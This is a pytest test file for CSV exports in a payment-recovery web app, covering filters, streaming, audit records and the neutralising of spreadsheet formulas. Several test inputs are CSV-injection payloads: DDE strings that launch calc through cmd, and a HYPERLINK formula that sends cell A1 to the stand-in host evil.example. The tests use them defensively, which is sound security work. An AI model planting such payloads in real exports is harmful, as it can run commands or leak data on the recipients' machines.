"""CSV exports of the transactions, recoveries and outbox lists (issue 16, #9)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import sqlalchemy as sa
from flask.testing import FlaskClient

from recovery.exports.writer import csv_chunks, neutralise
from recovery.models import AuditEvent, Message, Organization, RecoveryAttempt, Transaction, User

DAY = datetime(2025, 3, 10, 12, 30, tzinfo=UTC)


def read(response: Any) -> list[dict[str, str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")  # the byte-order mark Excel needs to read UTF-8
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def audit_events(db: Any, action: str) -> list[AuditEvent]:
    db.session.rollback()
    return list(db.session.scalars(sa.select(AuditEvent).where(AuditEvent.action == action)))


@pytest.fixture
def org(signed_in: Callable[..., User]) -> Organization:
    return signed_in("viewer").organization  # viewers may export: read-only, as the lists


def attempt_for(db: Any, transaction: Transaction, **values: Any) -> RecoveryAttempt:
    attempt = RecoveryAttempt(
        **{
            "organization_id": transaction.organization_id,
            "transaction_id": transaction.id,
            "channel": "email",
            "token": f"tok-{transaction.id}",
            "status": "notified",
            "expires_at": DAY + timedelta(days=7),
            "messages_sent": 1,
            "next_send_at": DAY + timedelta(days=1),
            "created_at": DAY,
            **values,
        }
    )
    db.session.add(attempt)
    db.session.commit()
    return attempt


def test_transactions_export_holds_the_lists_filter_in_the_merchants_units(
    client: FlaskClient,
    db: Any,
    org: Organization,
    make_transaction: Callable[..., Transaction],
    make_org: Any,
) -> None:
    make_transaction(
        org=org,
        transaction_ref="USD-1",
        amount=5000,
        currency="usd",
        failed_at=DAY,
        customer_name="Zoë Ndiaye",
        customer_phone="+442079460958",
        meta={"order_id": "ORD-123"},
    )
    make_transaction(
        org=org, transaction_ref="USD-2", amount=4999, currency="usd", failed_at=DAY - timedelta(days=1)
    )
    make_transaction(org=org, transaction_ref="JPY-1", amount=5000, currency="jpy", failed_at=DAY)
    make_transaction(org=org, transaction_ref="BHD-1", amount=5000, currency="bhd", failed_at=DAY)
    make_transaction(org=org, transaction_ref="USD-OLD", currency="usd", failed_at=DAY - timedelta(days=60))
    make_transaction(org=make_org(), transaction_ref="USD-THEIRS", currency="usd", failed_at=DAY)

    response = client.get(
        "/transactions/export.csv",
        query_string={"currency": "USD", "date_from": "2025-03-01", "sort": "amount", "order": "asc"},
    )

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.is_streamed
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="transactions-') and disposition.endswith('.csv"')
    rows = read(response)
    assert [r["transaction_ref"] for r in rows] == ["USD-2", "USD-1"]  # the filter and the order
    first = rows[1]
    assert (first["amount"], first["currency"]) == ("50.00", "usd")
    assert first["failed_at_utc"] == "2025-03-10T12:30:00Z"
    assert first["customer_name"] == "Zoë Ndiaye"
    assert first["customer_phone"] == "+442079460958"  # E.164 is no formula: left as it is
    assert first["metadata"] == '{"order_id": "ORD-123"}'
    assert rows[0]["amount"] == "49.99"
    every = read(client.get("/transactions/export.csv"))
    amounts = {r["transaction_ref"]: (r["amount"], r["currency"]) for r in every}
    assert amounts["JPY-1"] == ("5000", "jpy") and amounts["BHD-1"] == ("5.000", "bhd")
    assert "USD-THEIRS" not in amounts  # nothing of another organization
    assert len(every) == 5


def test_recoveries_and_outbox_exports(
    client: FlaskClient,
    db: Any,
    org: Organization,
    make_transaction: Callable[..., Transaction],
    make_org: Any,
) -> None:
    ours = make_transaction(org=org, transaction_ref="OURS-1", amount=1234, currency="eur")
    theirs = make_transaction(org=make_org(), transaction_ref="THEIRS-1")
    attempt = attempt_for(db, ours)
    done = attempt_for(db, make_transaction(org=org, transaction_ref="OURS-2"), status="completed")
    attempt_for(db, theirs)
    for a, t in ((attempt, ours), (done, db.session.get(Transaction, done.transaction_id))):
        db.session.add(
            Message(
                organization_id=org.id,
                attempt_id=a.id,
                transaction_id=t.id,
                step=0,
                channel="email",
                recipient="ann@example.com",
                subject="=cmd|' /C calc'!A0",
                body_text="Pay here",
                status="sent",
                provider="outbox",
                created_at=DAY,
                sent_at=DAY,
            )
        )
    db.session.commit()

    recoveries = read(client.get("/recoveries/export.csv"))
    assert [r["transaction_ref"] for r in recoveries] == ["OURS-2", "OURS-1"]  # newest first, ours only
    assert recoveries[1]["amount"] == "12.34" and recoveries[1]["currency"] == "eur"
    assert recoveries[1]["started_at_utc"] == "2025-03-10T12:30:00Z"
    assert recoveries[1]["expires_at_utc"] == "2025-03-17T12:30:00Z"
    completed = read(client.get("/recoveries/export.csv", query_string={"status": "completed"}))
    assert [r["transaction_ref"] for r in completed] == ["OURS-2"]

    outbox = read(client.get("/outbox/export.csv"))
    assert len(outbox) == 2 and {r["transaction_ref"] for r in outbox} == {"OURS-1", "OURS-2"}
    assert outbox[0]["subject"] == "'=cmd|' /C calc'!A0"
    assert outbox[0]["sent_at_utc"] == "2025-03-10T12:30:00Z" and outbox[0]["message_number"] == "1"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Pay")', '\'=HYPERLINK("http://evil.example/?"&A1,"Pay")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+1 (555) 010-0100", "'+1 (555) 010-0100"),  # looks like a phone, is not E.164
        ("-1e9", "'-1e9"),
        ("-12.50", "-12.50"),  # a plain number evaluates to itself
        ("+442079460958", "+442079460958"),  # E.164
        ("Ann = Bob", "Ann = Bob"),  # only the first character matters
        ("", ""),
    ],
)
def test_formula_characters_are_neutralised(value: str, written: str) -> None:
    assert neutralise(value) == written


@pytest.mark.parametrize(
    "name", ["=1+1", "+SUM(A1:A9)", "-1+1", "@A1", '=HYPERLINK("https://evil.example","Click")']
)
def test_exported_cells_are_neutralised_end_to_end(
    client: FlaskClient, org: Organization, make_transaction: Callable[..., Transaction], name: str
) -> None:
    make_transaction(
        org=org, transaction_ref="INJ-1", customer_name=name, failure_message=name, meta={name: name}
    )

    row = read(client.get("/transactions/export.csv"))[0]

    assert row["customer_name"] == "'" + name
    assert row["failure_message"] == "'" + name
    assert row["metadata"].startswith("{")  # JSON begins with a brace: no formula


def test_export_is_streamed_and_audited_with_filters_and_row_count(
    client: FlaskClient, db: Any, org: Organization, make_transaction: Callable[..., Transaction]
) -> None:
    for i in range(450):
        make_transaction(org=org, transaction_ref=f"S-{i:04}", currency="usd", failed_at=DAY)

    response = client.get(
        "/transactions/export.csv", query_string={"currency": "usd", "q": "s-"}, buffered=False
    )
    chunks = iter(response.response)
    first = next(chunks)
    header = first.decode() if isinstance(first, bytes) else first
    # The header goes out before the query runs and before anything is recorded.
    assert header.startswith("\ufefftransaction_ref,amount,currency,status")
    assert header.count("\r\n") == 1
    assert audit_events(db, "export.transactions") == []
    rest = list(chunks)
    assert len(rest) == 3  # 200 rows a chunk: the file is never held whole
    response.close()

    [event] = audit_events(db, "export.transactions")
    assert event.details == {
        "filters": {"currency": "usd", "q": "s-", "sort": "date", "order": "desc"},
        "rows": 450,
        "complete": True,
    }
    assert event.organization_id == org.id and event.actor_user_id is not None


def test_an_export_cut_off_by_the_client_is_audited_as_incomplete(
    client: FlaskClient, db: Any, org: Organization, make_transaction: Callable[..., Transaction]
) -> None:
    for i in range(450):
        make_transaction(org=org, transaction_ref=f"C-{i:04}", failed_at=DAY)

    response = client.get("/transactions/export.csv", buffered=False)
    chunks = iter(response.response)
    next(chunks)
    next(chunks)
    response.close()  # the browser went away

    [event] = audit_events(db, "export.transactions")
    assert event.details["complete"] is False and event.details["rows"] < 450


def test_csv_chunks_hold_one_chunk_at_a_time() -> None:
    rows = ((i, f"name {i}") for i in range(1001))

    chunks = list(csv_chunks(("n", "name"), rows, rows_per_chunk=100))

    assert len(chunks) == 1 + 11 and chunks[0] == "\ufeffn,name\r\n"
    assert chunks[-1] == "1000,name 1000\r\n"


@pytest.mark.parametrize(
    ("url", "args", "message"),
    [
        ("/transactions/export.csv", {"currency": "dollars"}, "three-letter currency code"),
        ("/transactions/export.csv", {"currency": "zzz"}, "ZZZ is not an ISO 4217 currency code"),
        ("/transactions/export.csv", {"status": "lost"}, "Unknown status"),
        ("/transactions/export.csv", {"date_from": "31/01/2025"}, "Use a date like 2025-01-31."),
        ("/transactions/export.csv", {"date_from": "2025-02-01", "date_to": "2025-01-01"}, "is before"),
        ("/transactions/export.csv", {"sort": "amount"}, "Choose a currency to sort by amount"),
        ("/transactions/export.csv", {"q": "x" * 300}, "at most 254 characters"),
        ("/recoveries/export.csv", {"status": "lost"}, "Unknown recovery status"),
    ],
)
def test_bad_export_parameters_are_a_clear_400(
    client: FlaskClient, db: Any, org: Organization, url: str, args: dict[str, str], message: str
) -> None:
    response = client.get(url, query_string=args)

    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "This export cannot be made" in page and message.replace("'", "&#39;") in page
    assert audit_events(db, "export.transactions") == []


@pytest.mark.parametrize("url", ["/transactions/export.csv", "/recoveries/export.csv", "/outbox/export.csv"])
def test_exports_need_a_signed_in_user(client: FlaskClient, url: str) -> None:
    response = client.get(url)

    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_each_list_links_to_its_export_with_its_filters(
    client: FlaskClient, org: Organization, make_transaction: Callable[..., Transaction]
) -> None:
    make_transaction(org=org)
    page = client.get("/transactions", query_string={"currency": "usd", "q": "txn"}).get_data(as_text=True)
    assert 'href="/transactions/export.csv?q=txn&amp;currency=usd&amp;sort=date&amp;order=desc"' in page
    recoveries = client.get("/recoveries", query_string={"status": "completed"}).get_data(as_text=True)
    assert 'href="/recoveries/export.csv?status=completed"' in recoveries
